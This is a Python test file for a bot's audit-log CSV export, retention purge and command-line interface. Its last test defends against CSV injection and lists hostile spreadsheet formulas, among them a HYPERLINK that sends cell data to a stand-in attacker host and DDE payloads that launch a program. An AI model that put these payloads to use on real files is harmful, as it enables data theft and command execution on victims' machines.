"""`python -m bot audit export` (a date range as CSV, for the people who review access) and
`python -m bot audit purge` (rows older than AUDIT_RETENTION_DAYS)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from bot.store.audit import EXPORT_COLUMNS, AuditEntry, export_audit_csv, purge_audit, record_audit
from bot.store.models import AuditEvent
from tests.helpers.processes import run_bot


def _seed(factory: sessionmaker[Session], *times: datetime) -> None:
    for number, at in enumerate(times):
        entry = AuditEntry(
            surface="/license",
            outcome="ok",
            user_id=f"U{number}",
            team_id="T1",
            channel_id="C1",
            query=f'acme, "quoted"\nline {number}',
            result_count=number,
            reason="user_id",
        )
        record_audit(factory, entry, now=at)


def _count(factory: sessionmaker[Session]) -> int:
    with factory() as session:
        return session.scalar(select(func.count()).select_from(AuditEvent)) or 0


def test_export_writes_the_range_with_every_column_in_utc(session_factory, session) -> None:
    _seed(
        session_factory,
        datetime(2026, 10, 31, 23, 59, 59, tzinfo=UTC),  # before the range
        datetime(2026, 11, 1, 0, 0, tzinfo=UTC),
        datetime(2026, 11, 15, 12, 30, tzinfo=UTC),
        datetime(2026, 12, 1, 0, 0, tzinfo=UTC),  # after it
    )
    out = io.StringIO()
    written = export_audit_csv(
        session,
        out,
        since=datetime(2026, 11, 1, tzinfo=UTC),
        until=datetime(2026, 12, 1, tzinfo=UTC),
    )
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert written == 2 and len(rows) == 2
    assert tuple(rows[0]) == EXPORT_COLUMNS
    assert [row["at"] for row in rows] == ["2026-11-01T00:00:00Z", "2026-11-15T12:30:00Z"]
    assert rows[1] | {"id": "x"} == {
        "id": "x",
        "at": "2026-11-15T12:30:00Z",
        "team_id": "T1",
        "enterprise_id": "",
        "user_id": "U2",
        "channel_id": "C1",
        "surface": "/license",
        "query": 'acme, "quoted"\nline 2',  # commas, quotes and newlines survive the round trip
        "outcome": "ok",
        "result_count": "2",
        "reason": "user_id",
    }


def test_purge_deletes_only_rows_past_retention(session_factory) -> None:
    now = datetime(2026, 11, 20, 12, tzinfo=UTC)
    _seed(session_factory, now - timedelta(days=401), now - timedelta(days=399), now)
    with session_factory() as session:
        assert purge_audit(session, now=now, retention_days=400) == 1
        session.commit()
    assert _count(session_factory) == 2


def test_the_cli_exports_a_date_range_and_purges(store_url, session_factory, tmp_path) -> None:
    now = datetime.now(UTC)
    _seed(
        session_factory,
        datetime(2026, 11, 1, 8, tzinfo=UTC),
        datetime(2026, 11, 30, 23, 59, tzinfo=UTC),  # --until's whole day is included
        datetime(2026, 12, 1, 0, 1, tzinfo=UTC),
        now - timedelta(days=500),
    )
    output = tmp_path / "audit.csv"
    exported = run_bot(
        "audit", "export", "--since", "2026-11-01", "--until", "2026-11-30",
        "--output", str(output), database_url=store_url, cwd=tmp_path,
    )  # fmt: skip
    assert exported.returncode == 0, exported.stderr
    assert "2 rows" in exported.stderr
    with output.open(newline="", encoding="utf-8") as file:
        users = [row["user_id"] for row in csv.DictReader(file)]
    assert users == ["U0", "U1"]

    to_stdout = run_bot(
        "audit", "export", "--since", "2026-12-01", "--until", "2026-12-01",
        database_url=store_url, cwd=tmp_path,
    )  # fmt: skip
    assert [row["user_id"] for row in csv.DictReader(io.StringIO(to_stdout.stdout))] == ["U2"]

    bad = run_bot(
        "audit", "export", "--since", "yesterday", "--until", "2026-12-01",
        database_url=store_url, cwd=tmp_path,
    )  # fmt: skip
    assert bad.returncode == 2 and "YYYY-MM-DD" in bad.stderr

    purged = run_bot("audit", "purge", database_url=store_url, cwd=tmp_path)
    assert purged.returncode == 0, purged.stderr
    assert "1 rows older than 400 days deleted" in purged.stdout
    assert _count(session_factory) == 3
    shorter = run_bot(
        "audit", "purge", database_url=store_url, cwd=tmp_path, AUDIT_RETENTION_DAYS="1"
    )
    # The November rows are more than a day old whenever this runs after 2026-12-02.
    expected = sum(at < now - timedelta(days=1) for at in (
        datetime(2026, 11, 1, 8, tzinfo=UTC),
        datetime(2026, 11, 30, 23, 59, tzinfo=UTC),
        datetime(2026, 12, 1, 0, 1, tzinfo=UTC),
    ))  # fmt: skip
    assert f"{expected} rows older than 1 days deleted" in shorter.stdout
    assert _count(session_factory) == 3 - expected


def test_export_streams(session_factory, session, monkeypatch) -> None:
    # yield_per: the rows come in batches, not one list of the whole range.
    import bot.store.audit

    monkeypatch.setattr(bot.store.audit, "EXPORT_BATCH", 2)
    base = datetime(2026, 11, 2, tzinfo=UTC)
    _seed(session_factory, *(base + timedelta(minutes=m) for m in range(5)))
    out = io.StringIO()
    assert export_audit_csv(session, out, since=base, until=base + timedelta(days=1)) == 5


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Initech")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_export_quotes_text_a_spreadsheet_would_run_as_a_formula(session_factory, session):
    """A refused guest's query (or any other text cell) starting with = + - @, tab or CR is
    written with a leading single quote (OWASP CSV injection); other text is left alone."""
    at = datetime(2026, 11, 2, tzinfo=UTC)
    for number, query in enumerate([*FORMULAS, "Initech = ACME", "'quoted"]):
        entry = AuditEntry(
            surface="=callback" if number == 0 else "/license",
            outcome="denied",
            user_id=f"UGUEST{number}",
            team_id="T1",
            query=query,
            reason="guest",
        )
        record_audit(session_factory, entry, now=at + timedelta(seconds=number))
    out = io.StringIO()
    export_audit_csv(session, out, since=at, until=at + timedelta(days=1))
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))  # keep the CR
    assert [row["query"] for row in rows] == [
        *("'" + formula for formula in FORMULAS),
        "Initech = ACME",
        "'quoted",
    ]
    assert rows[0]["surface"] == "'=callback"
    assert {row["result_count"] for row in rows} == {"0"}
